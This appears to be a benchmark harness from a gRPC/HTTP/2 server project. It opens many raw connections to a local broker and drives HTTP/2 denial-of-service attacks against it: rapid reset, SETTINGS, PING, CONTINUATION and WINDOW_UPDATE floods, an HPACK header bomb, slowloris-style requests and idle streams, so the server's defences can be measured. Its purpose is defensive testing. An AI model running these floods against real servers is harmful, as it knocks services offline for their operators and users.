"""The attackers of `attacks.py`: one process with many raw HTTP/2 connections and a bounded share of a core.

    python benchmarks/attackers.py NAME HOST:PORT SECONDS SHARE

It prints `ready`, begins with a line on stdin, and ends with a line of JSON (`Report`). Connections come from 127.0.0.2
and following, so that the limits per peer address do not affect the good client. An attack that the server ends is
repeated, at most `AGAIN_PER_S` times a second. After each piece of work the process sleeps until its CPU time is within
SHARE of the elapsed time.
"""

from __future__ import annotations

import json
import resource
import select
import signal
import socket
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass

from evenq.serving.fields import write_bytes
from evenq.wire.convert import set_duration_ms
from evenq.wire.http2 import frames as f
from evenq.wire.http2.codes import ErrorCode
from evenq.wire.http2.hpack import encode
from evenq.wire.stubs.apache.rocketmq.v2 import service_pb2

TOPIC, WAITED = "attacked", "empty"
"""Topics of the broker: one for the good client, and one without messages."""
V2 = "/apache.rocketmq.v2.MessagingService/"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
OPEN, WHOLE = f.END_HEADERS, f.END_HEADERS | f.END_STREAM
AGAIN_PER_S = 100
COME_PER_S = 2_500
"""New connections a second, of those that replace ended ones and of crowds."""
STEP_S = 0.001
STEP = 50
"""Connections that are opened between two reads of the clock."""
LAST = b"all-read"


def head(path: str) -> bytes:
    """The header block of a call without credentials."""
    return encode(
        [
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path.encode()),
            (b":authority", b"h"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ]
    )


def message(body: bytes) -> bytes:
    """A gRPC message with its length."""
    return b"\0" + len(body).to_bytes(4) + body


def ids(first: int, count: int) -> range:
    """Numbers of streams that a client opens one after another."""
    return range(first, first + 2 * count, 2)


@dataclass(slots=True)
class Report:
    """Result of the attackers."""

    opened: int = 0
    ended: int = 0
    """Connections that the server ended."""
    failed: int = 0
    """Connections that were never made."""
    sent_mb: float = 0.0
    cpu_s: float = 0.0
    secs: float = 0.0


class Wire:
    """One non-blocking connection."""

    __slots__ = ("all_read", "connected", "ended", "pending", "reads", "socket", "turn", "watched")

    def __init__(self, made: socket.socket, first: bytes, *, reads: bool) -> None:
        self.socket = made
        self.pending = first
        """Bytes that the socket has not taken yet."""
        self.reads = reads
        self.connected = self.ended = False
        self.all_read = False
        """The server answered the PING with LAST: it has read what came before."""
        self.turn = 0
        """Pieces of an attack that were sent on it."""
        self.watched = 0


class Crowd:
    def __init__(self, address: str, seconds: float, share: float, *, sources: int = 1) -> None:
        host, port = address.rsplit(":", 1)
        self._to = host, int(port)
        self._sources = sources
        self._poll = select.epoll()
        self._wires: dict[int, Wire] = {}
        self._share = share
        self.seconds = seconds
        self.over = False
        """Set when the attack must end."""
        self.report = Report()
        self._began, self._cpu = time.perf_counter(), time.process_time()

    @property
    def elapsed(self) -> float:
        """Seconds since the start."""
        return time.perf_counter() - self._began

    def open(
        self, first: bytes = b"", *, settings: dict[int, int] | None = None, reads: bool = True, mute: bool = False
    ) -> Wire:
        """Opens a connection and sends the preface and `first`; `mute`: sends nothing."""
        made = socket.socket()
        made.setblocking(False)
        made.bind((f"127.0.0.{2 + self.report.opened % self._sources}", 0))
        made.connect_ex(self._to)
        wire = Wire(made, b"" if mute else f.PREFACE + f.settings(settings or {}) + first, reads=reads)
        self.report.opened += 1
        self._wires[made.fileno()] = wire
        wire.watched = select.EPOLLOUT | select.EPOLLRDHUP
        self._poll.register(made, wire.watched)
        return wire

    def send(self, wire: Wire, data: bytes) -> None:
        """Sends now, or when the socket takes it."""
        wire.pending += data
        if wire.connected and not wire.ended:
            self._write(wire)
            self._watch(wire)

    def goes_on(self) -> bool:
        """Serves all sockets and sleeps for the share of CPU; False when the time has ended."""
        self._look()
        used = time.process_time() - self._cpu
        left = 0.0 if self.over else self.seconds - self.elapsed
        if left > 0:
            time.sleep(min(left, max(STEP_S, used / self._share - self.elapsed)))
        return left > 0

    def close(self) -> Report:
        self._look()
        self.report.cpu_s, self.report.secs = time.process_time() - self._cpu, self.elapsed
        for wire in self._wires.values():
            wire.socket.close()
        return self.report

    def _look(self) -> None:
        for descriptor, what in self._poll.poll(0, 4_096):
            wire = self._wires.get(descriptor)
            if wire is None:
                continue
            if what & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                self._end(wire)
                continue
            if what & select.EPOLLIN:
                self._read(wire)
            if what & select.EPOLLOUT and not wire.ended:
                wire.connected = True
                self._write(wire)
            if not wire.ended:
                self._watch(wire)

    def _watch(self, wire: Wire) -> None:
        events = select.EPOLLRDHUP | (wire.reads and select.EPOLLIN) | (bool(wire.pending) and select.EPOLLOUT)
        if not wire.ended and events != wire.watched:
            wire.watched = events
            self._poll.modify(wire.socket, events)

    def _read(self, wire: Wire) -> None:
        try:
            data = wire.socket.recv(1 << 17)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self._end(wire)
        elif LAST in data:
            wire.all_read = True

    def _write(self, wire: Wire) -> None:
        if not wire.pending:
            return
        try:
            taken = wire.socket.send(wire.pending)
        except BlockingIOError:
            return
        except OSError:
            self._end(wire)
            return
        wire.pending = wire.pending[taken:]
        self.report.sent_mb += taken / 1e6

    def _end(self, wire: Wire) -> None:
        wire.ended = True
        if wire.connected:
            self.report.ended += 1
        else:
            self.report.failed += 1
        del self._wires[wire.socket.fileno()]
        wire.socket.close()  # epoll forgets it with this


Attack = Callable[[Crowd], None]


# ------------------------------------------------------------------------------------------------ frames without end


def _waiting() -> bytes:
    """A ReceiveMessage that waits for a minute, so that a reset ends a call that has begun."""
    request = service_pb2.ReceiveMessageRequest(batch_size=1)
    request.group.name, request.message_queue.topic.name, request.message_queue.id = "attackers", WAITED, -1
    request.filter_expression.expression = "*"
    set_duration_ms(request.long_polling_timeout, 50_000)
    set_duration_ms(request.invisible_duration, 10_000)
    return message(request.SerializeToString())


def _resets(turn: int) -> bytes:
    block, request = head(V2 + "ReceiveMessage"), _waiting()
    return b"".join(
        f.frame(f.HEADERS, OPEN, one, block)
        + f.frame(f.DATA, f.END_STREAM, one, request)
        + f.reset(one, ErrorCode.CANCEL)
        for one in ids(200 * turn + 1, 100)
    )


SEND = V2 + "SendMessage"
FLOODS: dict[str, Callable[[int], bytes]] = {
    "rapid reset": _resets,
    "SETTINGS flood": lambda _: f.settings({f.INITIAL_WINDOW_SIZE: 70_000}) * 20,
    "PING flood": lambda _: f.ping(bytes(8)) * 200,
    "empty DATA flood": lambda turn: (
        (f.frame(f.HEADERS, OPEN, 1, head(SEND)) if not turn else b"") + f.frame(f.DATA, 0, 1) * 100
    ),
    "CONTINUATION flood": lambda turn: (
        (f.frame(f.HEADERS, 0, 1, b"") if not turn else b"") + f.frame(f.CONTINUATION, 0, 1) * 10
    ),
    "header bomb": lambda turn: f.frame(
        f.HEADERS, WHOLE, 2 * turn + 1, b"\x40\x01n\x7f\x81\x1e" + b"v" * 3_968 + b"\xbe" * 5_000
    ),
    "WINDOW_UPDATE flood": lambda _: f.window_update(0, 1) * 200,
}
"""Returns the next bytes, by the number of the piece on its connection."""
FLOODERS = 4


def _flood(make: Callable[[int], bytes]) -> Attack:
    def attack(crowd: Crowd) -> None:
        wires = [crowd.open() for _ in range(FLOODERS)]
        while crowd.goes_on():
            for place, wire in enumerate(wires):
                if wire.ended:
                    if crowd.report.opened < FLOODERS + AGAIN_PER_S * crowd.elapsed:
                        wires[place] = crowd.open()
                elif wire.connected and not wire.pending:
                    crowd.send(wire, make(wire.turn))
                    wire.turn += 1

    return attack


# --------------------------------------------------------------------------------------------- what fills and lasts


def _come(crowd: Crowd, count: int, make: Callable[[], Wire]) -> Iterator[list[Wire]]:
    """`count` connections, `COME_PER_S` each second, kept open until the time has ended."""
    wires: list[Wire] = []
    while crowd.goes_on():
        due = min(STEP, count - len(wires), int(COME_PER_S * crowd.elapsed) - len(wires))
        wires.extend(make() for _ in range(due))
        yield wires


def _idle_streams(crowd: Crowd, *, streams: int = 52_000, connections: int = 13) -> None:
    """Bidirectional streams that are opened in half the time, and never used."""
    block = head(REFLECTION)
    wires, sent = [crowd.open() for _ in range(connections)], 0
    while crowd.goes_on():
        upto = min(streams, int(2 * streams * crowd.elapsed / crowd.seconds), sent + 20 * STEP)
        for number in range(sent, upto):
            wire, stream_id = wires[number % connections], 2 * (number // connections) + 1
            crowd.send(wire, f.frame(f.HEADERS, OPEN, stream_id, block))
        sent = upto


def _slow_readers(crowd: Crowd, *, readers: int = 240, streams: int = 8, requests_each: int = 500) -> None:
    """Each requests 8 x 500 descriptors of 29 KB. Half of them keep their windows closed, half their sockets full."""
    requests = message(write_bytes(3, b"evenq/v1/admin.proto")) * requests_each

    def make() -> Wire:
        wide = crowd.report.opened % 2 == 0
        first = f.window_update(0, f.WINDOW_MAX - 65_535) if wide else b""
        for one in ids(1, streams):
            first += f.frame(f.HEADERS, OPEN, one, head(REFLECTION)) + f.frame(f.DATA, 0, one, requests)
        return crowd.open(first, settings={f.INITIAL_WINDOW_SIZE: f.WINDOW_MAX} if wide else None, reads=False)

    for _ in _come(crowd, readers, make):
        pass


def _all_they_may(crowd: Crowd, *, connections: int = 500, calls: int = 500) -> None:
    """QueryRoute 500 times in one piece, again and again, as soon as the server has read the piece before."""
    request = service_pb2.QueryRouteRequest()
    request.topic.name = TOPIC
    block, body = head(V2 + "QueryRoute"), message(request.SerializeToString())
    pieces = [
        b"".join(
            f.frame(f.HEADERS, OPEN, one, block) + f.frame(f.DATA, f.END_STREAM, one, body)
            for one in ids(2 * calls * turn + 1, calls)
        )
        + f.ping(LAST)
        for turn in range(50)
    ]
    windows = {f.INITIAL_WINDOW_SIZE: 1 << 20}
    first = f.window_update(0, f.WINDOW_MAX - 65_535)
    for wires in _come(crowd, connections, lambda: crowd.open(first + pieces[0], settings=windows)):
        for wire in wires:
            if wire.all_read and not wire.ended and wire.turn + 1 < len(pieces):
                wire.all_read = False
                wire.turn += 1
                crowd.send(wire, pieces[wire.turn])


def _never_ending(crowd: Crowd, *, connections: int = 1_000, streams: int = 4) -> None:
    """Requests that send one byte per second."""
    block = head(SEND)
    first = b"".join(
        f.frame(f.HEADERS, OPEN, one, block) + f.frame(f.DATA, 0, one, (1 << 20).to_bytes(5) + bytes(1_000))
        for one in ids(1, streams)
    )
    more = b"".join(f.frame(f.DATA, 0, one, b"x") for one in ids(1, streams))
    for wires in _come(crowd, connections, lambda: crowd.open(first)):
        for place, wire in enumerate(wires):
            if not wire.ended and wire.connected and wire.turn + 1 < crowd.elapsed - place / COME_PER_S:
                wire.turn += 1
                crowd.send(wire, more)


def _silent(crowd: Crowd, *, connections: int = 10_000) -> None:
    """No preface."""
    for _ in _come(crowd, connections, lambda: crowd.open(mute=True)):
        pass


ATTACKS: dict[str, Attack] = {
    "52,000 idle streams": _idle_streams,
    "240 slow readers": _slow_readers,
    **{name: _flood(make) for name, make in FLOODS.items()},
    "500 connections that send all they may": _all_they_may,
    "requests that never end": _never_ending,
    "10,000 connections that say nothing": _silent,
}
FILES = 10_300
"""Descriptors that the largest attack needs, in this process and in the broker."""


def main() -> None:
    name, address, seconds, share = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(FILES, hard) if hard >= 0 else FILES, hard))
    print("ready", flush=True)
    sys.stdin.readline()
    crowd = Crowd(address, float(seconds), float(share))
    signal.signal(signal.SIGTERM, lambda *_: setattr(crowd, "over", True))
    ATTACKS[name](crowd)
    print(json.dumps(asdict(crowd.close())), flush=True)


if __name__ == "__main__":
    main()
